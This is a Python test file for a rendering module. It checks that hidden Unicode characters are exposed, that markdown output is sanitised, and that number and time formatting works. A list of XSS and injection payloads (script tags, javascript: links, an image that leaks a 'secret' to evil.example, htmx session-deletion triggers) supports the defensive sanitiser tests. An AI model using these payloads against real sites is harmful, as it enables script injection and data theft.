from __future__ import annotations

import json
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from playground.render.filters import (
    added_pieces,
    clip,
    duration,
    exact_time,
    exposed_count,
    form_text,
    hidden_count,
    is_padded,
    markdown,
    one_line,
    plural,
    pretty_json,
    show_hidden,
    show_spaces,
    size,
    time_ago,
)
from tests.render.page import parse

ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=60)

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "<a href='javascript:alert(1)'>x</a>",
    "<hx-partial hx-target='#head'>gone</hx-partial>",
    "<b hx-get='/sessions/1/delete' hx-trigger='load'>x</b>",
    "[x](https://a.example \"t' onmouseover='alert(1)\")",
    '```"><script>alert(1)</script>\nx\n```',
    "<style>*{display:none}</style>",
    "<iframe src=//evil.example></iframe>",
    "<form action=/x><button>y",
    "<svg><script>alert(1)</script></svg>",
    "`<img src=x>`",
    "<!-- --><title>x</title>",
]


@pytest.mark.parametrize(
    ("text", "visible"),
    [
        ("plain\n\ttext é 中 😀", "plain\n\ttext é 中 😀"),
        ("a\u202eb", "a\\u202eb"),  # right-to-left override
        ("a\u2066b\u2069", "a\\u2066b\\u2069"),  # isolates
        ("a\u200b\u200d\ufeffb", "a\\u200b\\u200d\\ufeffb"),  # zero width
        ("\x00\x07\x1b[0m\r\x7f\x85", "\\u0000\\u0007\\u001b[0m\\u000d\\u007f\\u0085"),
        ("\U000e0041", "\\udb40\\udc41"),  # a tag character
        ("\U000e0100", "\\udb40\\udd00"),  # a variation selector that smuggles
        ("\ud800", "\\ud800"),  # a lone surrogate
        ("\u0378", "\\u0378"),  # unassigned
        ("\u2028\u2029", "\\u2028\\u2029"),  # line ends that are none
        ("\u3164\u115f\u00ad", "\\u3164\\u115f\\u00ad"),  # fillers, soft hyphen
        ("❤\ufe0f", "❤\ufe0f"),  # how an emoji looks is no secret
    ],
)
def test_hidden_characters_are_shown(text: str, visible: str) -> None:
    assert show_hidden(text) == visible
    changed = sum(a != b for a, b in zip(text, map(show_hidden, text), strict=True))
    assert hidden_count(text) == changed


@given(ANY_TEXT, ANY_TEXT)
def test_showing_can_be_done_in_pieces(a: str, b: str) -> None:
    assert show_hidden(a) + show_hidden(b) == show_hidden(a + b)
    assert hidden_count(a + b) == hidden_count(a) + hidden_count(b)
    show_hidden(a).encode("utf-8")
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x00\x1b\r]", show_hidden(a))


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters='"\\')))
def test_the_escapes_mean_the_same_in_json(text: str) -> None:
    assume = not any(ord(c) < 0x20 for c in text)
    if assume:
        assert json.loads(f'"{show_hidden(text)}"') == text


@pytest.mark.parametrize("space", "\u00a0\u1680\u2000\u2003\u200a\u202f\u205f\u3000")
def test_spaces_that_are_none_show_in_arguments_and_not_in_prose(space: str) -> None:
    text = f"a{space}b c\n"
    assert show_hidden(text) == text
    assert show_spaces(text) == f"a\\u{ord(space):04x}b c\n"
    assert one_line(text + "\t") == f"a\\u{ord(space):04x}b c\\n\\t"
    assert (exposed_count(text), exposed_count(text, lines=True)) == (1, 2)
    assert json.loads(f'"{one_line(text)}"') == text
    assert show_hidden(show_spaces(text)) == show_spaces(text)


def test_every_space_is_plain_or_exposed() -> None:
    spaces = [chr(code) for code in range(0x110000) if unicodedata.category(chr(code)) == "Zs"]
    assert [space for space in spaces if show_spaces(space) == space] == [" "]


@pytest.mark.timeout(20)
@pytest.mark.parametrize("text", [" " * 1_000_000, "\n " * 500_000, "a" + " \n" * 500_000])
def test_gaps_are_found_soon(text: str) -> None:
    is_padded(text)


@pytest.mark.parametrize("text", ATTACKS)
def test_markdown_is_inert(text: str) -> None:
    for node in parse(str(markdown(text))).walk():
        assert node.name not in {"script", "img", "iframe", "style", "svg", "form", "hx-partial"}
        allowed = {"href", "rel"} if node.name == "a" else {"start"} if node.name == "ol" else set()
        assert set(node.attributes) <= allowed
        assert node.attributes.get("href", "https:").split(":")[0] in {"http", "https", "mailto"}


@given(ANY_TEXT)
def test_markdown_of_anything_is_well_formed(text: str) -> None:
    names = {node.name for node in parse(str(markdown(text))).walk()}
    assert not names & {"script", "img", "style", "iframe", "form"}


def test_a_link_names_its_host() -> None:
    assert "(evil.example)" in markdown("[your bank](https://evil.example/login)")
    assert "(" not in markdown("<https://evil.example/login>")
    assert 'rel="noopener noreferrer nofollow"' in markdown("[a](https://b.example)")


def test_markdown_that_is_too_long_stays_text() -> None:
    html = markdown("**a** <b>" * 20_000)
    assert html.startswith('<div class="raw">**a** &lt;b&gt;')


def test_form_fields_keep_what_was_typed() -> None:
    assert form_text('a\u200d"<b>\ud800') == "a\u200d&#34;&lt;b&gt;?"


@pytest.mark.parametrize(
    ("output", "wanted"),
    [
        (size(312), "312 B"),
        (size(3100), "3.1k"),
        (size(2_000_000), "2.0M"),
        (size(312, unit=True), "312 B"),
        (size(3100, unit=True), "3.1 kB"),
        (size(2_000_000, unit=True), "2.0 MB"),
        (duration(182), "182 ms"),
        (duration(1240), "1.24 s"),
        (duration(12_400), "12.4 s"),
        (duration(185_000), "3 min 05 s"),
        (duration(3_700_000), "1 h 01 min"),
        (time_ago(0, 59_000), "just now"),
        (time_ago(0, 240_000), "4 min ago"),
        (time_ago(0, 86_400_000), "1 day ago"),
        (time_ago(0, 86_400_000 * 30), "1970-01-01"),
        (time_ago(5_000, 0), "just now"),
        (exact_time(1_000), "1970-01-01 00:00:01 UTC"),
        (clip("abcdef", 4), "abc…"),
        (plural(1, "call"), "1 call"),
        (plural(2, "entry", "entries"), "2 entries"),
        (pretty_json("text"), "text"),
        (pretty_json({"a": [1, {}]}), '{\n  "a": [1, {}]\n}'),
    ],
)
def test_words(output: str, wanted: str) -> None:
    assert output == wanted


@given(
    st.recursive(st.integers() | st.text(), lambda s: st.lists(s) | st.dictionaries(st.text(), s))
)
def test_pretty_changes_only_white_space(value: object) -> None:
    if not isinstance(value, str):
        assert json.loads(pretty_json(value)) == value


@pytest.mark.parametrize(
    ("text", "pieces"),
    [
        ("", []),
        ("Hi", [("", "Hi")]),
        ("<a-b>x</a-b>\n\nHi", [("a-b", "x"), ("", "Hi")]),
        ("Hi\n<a_b>\nx\n</a_b>", [("", "Hi"), ("a_b", "x")]),
        ("<a-b></a-b>", [("a-b", "")]),
        ("<a-b>open", [("", "<a-b>open")]),
        ("in <a-b>x</a-b>", [("", "in <a-b>x</a-b>")]),
        ("<b>x</b>", [("", "<b>x</b>")]),
        ("<a-b>\n<c-d>x</c-d>\n</a-b>", [("a-b", "<c-d>x</c-d>")]),
        ("<x-y>\n<a-b>x</a-b>", [("", "<x-y>"), ("a-b", "x")]),
    ],
)
def test_what_an_agent_added_stands_apart(text: str, pieces: list[tuple[str, str]]) -> None:
    assert added_pieces(text) == pieces


@pytest.mark.timeout(20)
def test_tags_that_never_close_cost_little() -> None:
    text = "".join(f"<a-{n}>\n" for n in range(20_000))
    assert added_pieces(text) == [("", text.strip("\n"))]
